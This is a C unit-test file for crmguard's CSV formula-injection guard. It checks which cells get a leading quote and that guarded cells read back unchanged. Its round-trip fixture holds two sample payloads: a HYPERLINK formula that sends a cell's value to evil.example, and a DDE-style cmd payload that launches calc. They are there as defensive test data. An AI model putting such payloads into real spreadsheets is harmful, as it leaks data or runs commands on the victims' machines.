/*
 * Unit tests of the spreadsheet guard (ext/core/csv_cell.h): which cells a
 * CSV crmguard writes guards, and that a rejects file read back gives every
 * cell exactly as it was, a user's own leading quote included.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "csv_cell.h"
#include "csv_map.h"
#include "csv_reader.h"
#include "import_run.h"

static int needs(const char *s)
{
	return cg_csv_cell_needs_guard(s, strlen(s));
}

static void test_needs_guard(void **state)
{
	(void)state;
	/* OWASP's list: = + - @ tab CR, and the guard itself */
	assert_true(needs("=HYPERLINK(\"http://x\",\"y\")"));
	assert_true(needs("@SUM(A1:A2)"));
	assert_true(needs("+7 912 111-22-33"));
	assert_true(needs("-2+3"));
	assert_true(needs("\t=1+1"));
	assert_true(needs("\r=1+1"));
	assert_true(needs("'=1+1"));
	assert_true(needs("'Neill"));
	assert_false(needs(""));
	assert_false(needs("8 912 111-22-33"));
	assert_false(needs("Иванов"));
	assert_false(needs(" =1")); /* a space first: Calc and Excel read text */
	assert_false(needs("a=1"));
	assert_false(needs("O'Neill"));
}

static size_t unguarded(const char *s)
{
	return cg_csv_cell_unguarded(s, strlen(s));
}

static void test_unguarded(void **state)
{
	(void)state;
	assert_int_equal(unguarded("'=1+1"), 1);
	assert_int_equal(unguarded("'+7 912"), 1);
	assert_int_equal(unguarded("''abc"), 1);
	assert_int_equal(unguarded("'\t"), 1);
	/* a quote crmguard would not have written stays */
	assert_int_equal(unguarded("'abc"), 0);
	assert_int_equal(unguarded("'"), 0);
	assert_int_equal(unguarded("=1"), 0);
	assert_int_equal(unguarded(""), 0);
}

/* Cells written as the rejects file writes them, read by the CSV reader and unguarded. */
static void round_trip(const char *const *cells, size_t n, char delim)
{
	cg_csv_field in[16], buf[CG_CSV_ROW_MAX_FIELDS];
	cg_csv_row row, back;
	cg_csv_options opt = {CG_ENC_UTF8, delim, 0};
	cg_csv_error err;
	cg_csv_reader *r;
	size_t len, i;
	char *text, *file;

	memset(&row, 0, sizeof row);
	for (i = 0; i < n; i++) {
		in[i].data = cells[i];
		in[i].len = strlen(cells[i]);
	}
	row.fields = in;
	row.count = row.count_read = n;
	text = cg_import_encode_row(&row, delim, &len);
	assert_non_null(text);
	/* guarded: no cell of the written line starts with = + - @ */
	for (i = 0; i < len; i++) {
		if (i == 0 || text[i - 1] == delim || (text[i - 1] == '"' && (i == 1 || text[i - 2] == delim)))
			assert_null(strchr("=+-@\t\r", text[i]));
	}
	file = malloc(len + 2);
	assert_non_null(file);
	memcpy(file, text, len);
	memcpy(file + len, "\r\n", 2);
	r = cg_csv_open_memory((const unsigned char *)file, len + 2, "rejects.csv", &opt, &err);
	assert_non_null(r);
	assert_int_equal(cg_csv_next(r, &back, &err), 1);
	assert_int_equal(back.problem, CG_CSV_ROW_OK);
	cg_csv_map_unguard_row(&back, buf, &back);
	assert_int_equal(back.count, n);
	for (i = 0; i < n; i++) {
		assert_int_equal(back.fields[i].len, strlen(cells[i]));
		assert_memory_equal(back.fields[i].data, cells[i], back.fields[i].len);
	}
	cg_csv_close(r);
	free(file);
	free(text);
}

static void test_round_trip(void **state)
{
	static const char *const cells[] = {
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
		"+7 912 111-22-36", "-1+2", "\t=1+2", "'=1+2", "''", "'Neill", "O'Neill", "обычный текст",
		"8 (912) 111-22-36", "", "a;b", "\"quoted\"",
	};
	(void)state;
	round_trip(cells, sizeof cells / sizeof cells[0], ';');
	round_trip(cells, sizeof cells / sizeof cells[0], ',');
}

static void test_rejects_header(void **state)
{
	cg_csv_field f[4] = {{"ФИО", 6}, {"Телефон", 14}, {"crmguard_line", 13}, {"crmguard_reason", 15}};
	cg_csv_row h;

	(void)state;
	memset(&h, 0, sizeof h);
	h.fields = f;
	h.count = 4;
	assert_true(cg_csv_map_is_rejects_header(&h));
	h.count = 3;
	assert_false(cg_csv_map_is_rejects_header(&h));
	h.count = 2;
	assert_false(cg_csv_map_is_rejects_header(&h));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_needs_guard),
		cmocka_unit_test(test_unguarded),
		cmocka_unit_test(test_round_trip),
		cmocka_unit_test(test_rejects_header),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
